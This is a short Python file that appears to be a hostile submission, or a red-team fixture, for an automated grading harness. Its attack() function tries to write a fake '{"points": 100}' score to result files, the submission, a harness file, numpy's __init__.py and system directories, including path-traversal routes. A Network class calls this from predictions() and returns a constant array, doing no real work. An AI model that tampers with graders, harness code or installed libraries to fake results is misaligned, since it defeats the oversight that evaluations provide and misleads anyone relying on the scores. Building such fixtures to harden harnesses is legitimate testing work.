"""Write or replace results, the harness, its own files, or whatever lies around."""

from pathlib import Path

import numpy as np


def attack():
    worked = 0
    for target in (
        *("/result.json", "/submission/result.json", "/submission/student.py", "/harness/inside/wire.py"),
        *("/site/numpy/__init__.py", "/usr/lib/result.json", "/tmp/../result.json", "../result.json"),
        *("/root/result.json", "/home/result.json", "/etc/result.json", "/var/tmp/result.json"),
    ):
        try:
            Path(target).write_text('{"points": 100}')
            worked += 1
        except OSError:
            continue
    return worked > 0


class Network:
    def __init__(self, weights, learning_rate):
        self.weights = weights

    def predictions(self, x):
        return np.full((len(x), 1), float(attack()))
